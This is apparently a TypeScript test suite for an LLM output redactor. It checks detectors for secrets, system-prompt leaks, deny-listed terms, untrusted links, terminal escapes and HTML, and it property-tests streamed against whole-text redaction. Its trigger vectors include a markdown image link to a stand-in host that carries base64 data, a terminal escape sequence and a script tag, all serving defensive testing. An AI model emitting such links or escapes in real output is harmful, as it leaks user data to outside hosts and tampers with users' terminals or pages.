/** The whole policy of a new client, all detectors at once, with everything an operator can set. */
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { profileOf } from '../../src/guard/policy.ts'
import { PERSONAL_ROWS } from '../../src/guard/output/personal/personal.ts'
import {
  compileOutput,
  createRedactor,
  textOf,
  type OutputMatch,
} from '../../src/guard/output/redactor.ts'
import { SECRET_ROWS } from '../../src/guard/output/secrets/secrets.ts'
import { answer } from '../unit/guard-policies.ts'

const PROMPT =
  'You work for the harbour office. The tide tables of pier nine are for its own crew and nobody else.'
const CONTEXT = { systemPrompt: PROMPT, canary: 'Quill-5f1c0a9be27d4431' }
const POLICY = compileOutput(
  profileOf('strict', {
    profile: 'strict',
    profiles: {},
    maxMessageChars: 100_000,
    maxPromptChars: 100_000,
    denyList: ['Eisvogel', 'plum tart'],
    patterns: [{ name: 'ticket', pattern: 'TICKET-[0-9]{3,6}', literal: 'TICKET-' }],
    linkOrigins: ['https://example.org'],
    secrets: ['Gl1mmer-0rchid_77'],
  }).output,
)

/** One that fires and one that does not, for every detector of the policy that is no table of rows. */
const OWN: Readonly<Record<string, readonly [fires: string, stays: string]>> = {
  'output.known-secret': ['it is Gl1mmer 0rchid 77', 'it is Glimmer orchid'],
  'output.prompt-leak': [PROMPT, 'The tide tables are in the library.'],
  'output.deny': ['an EISVÖGEL, an Eisvogel', 'a Vogel in the ice'],
  'output.pattern': ['see TICKET-4711', 'see TICKET-4'],
  'output.link': ['![x](https://evil.example/a.png?d=c2VjcmV0)', '[x](https://example.org/a)'],
  'output.terminal': ['\u001b]0;owned\u0007', 'the escape key'],
  'output.html': ['<script>fetch(1)</script>', 'a < b > c'],
}
const TABLES =
  /^output\.(?:secret|email|phone|card|bank|national-id|health|birth|name|network|crypto)\b/

test('every detector has a vector that fires and one that does not', () => {
  const fired = new Set(
    Object.values(OWN).flatMap(([fires]) =>
      answer(POLICY, [fires], CONTEXT).findings.map(({ code }) => code),
    ),
  )
  const stayed = Object.values(OWN).flatMap(
    ([, stays]) => answer(POLICY, [stays], CONTEXT).findings,
  )
  expect(stayed).toEqual([])
  for (const prefix of Object.keys(OWN)) {
    expect([prefix, [...fired].some((code) => code.startsWith(prefix))]).toEqual([prefix, true])
  }
  for (const { code } of POLICY.detectors) {
    const isKnown = TABLES.test(code) || Object.keys(OWN).some((prefix) => code.startsWith(prefix))
    expect([code, isKnown]).toEqual([code, true])
  }
})

const VECTORS = [
  ...SECRET_ROWS.flatMap(({ example, counterexample }) => [example, counterexample]),
  ...PERSONAL_ROWS.flatMap(({ examples, counterexamples }) => [...examples, ...counterexamples]),
  ...Object.values(OWN).flat(),
]

const cutPiece = fc
  .tuple(fc.constantFrom(...VECTORS), fc.nat(40), fc.nat(40))
  .map(([text, from, less]) => text.slice(from, Math.max(from, text.length - less)))
const piece = fc.oneof(
  fc.constantFrom(...VECTORS),
  cutPiece,
  fc.constantFrom(
    ' ',
    '\n',
    ', ',
    ': ',
    '"',
    '\\',
    '=',
    '](',
    '-',
    '%',
    '&#',
    '\u200b',
    'é',
    '日',
    '\ud83d\ude00',
    '\ud83d',
  ),
  fc.string({ maxLength: 8 }),
)
const text = fc.array(piece, { minLength: 1, maxLength: 4 }).map((pieces) => pieces.join(''))
const sizes = fc.array(fc.integer({ min: 1, max: 24 }), { minLength: 1, maxLength: 8 })

function streamed(whole: string, chunkSizes: readonly number[]) {
  const matches: OutputMatch[] = []
  const redactor = createRedactor(POLICY, {
    ...CONTEXT,
    onMatch: (match) => matches.push(match),
  })
  let left = ''
  let longestHeld = 0
  let silentChars = 0
  for (let at = 0, n = 0; at < whole.length; n++) {
    const size = chunkSizes[n % chunkSizes.length] ?? 1
    const said = textOf(redactor.push(whole.slice(at, at + size)))
    silentChars = said === '' ? silentChars + Math.min(size, whole.length - at) : 0
    if (matches.length === 0) longestHeld = Math.max(longestHeld, silentChars)
    left += said
    at += size
  }
  left += textOf(redactor.end())
  return {
    said: { text: left, findings: redactor.findings(), matches, state: redactor.state() },
    longestHeld,
    mayHold: redactor.maxHoldBackChars,
  }
}

test('10,000 texts, each in other pieces: the same answer, findings and places', () => {
  fc.assert(
    fc.property(text, sizes, (whole, chunkSizes) => {
      const { said, longestHeld, mayHold } = streamed(whole, chunkSizes)
      expect(said).toEqual(answer(POLICY, [whole], CONTEXT))
      expect(longestHeld).toBeLessThanOrEqual(mayHold + 24)
      expect(mayHold).toBe(971)
    }),
    { numRuns: 10_000, seed: 20_261_126 },
  )
}, 120_000)
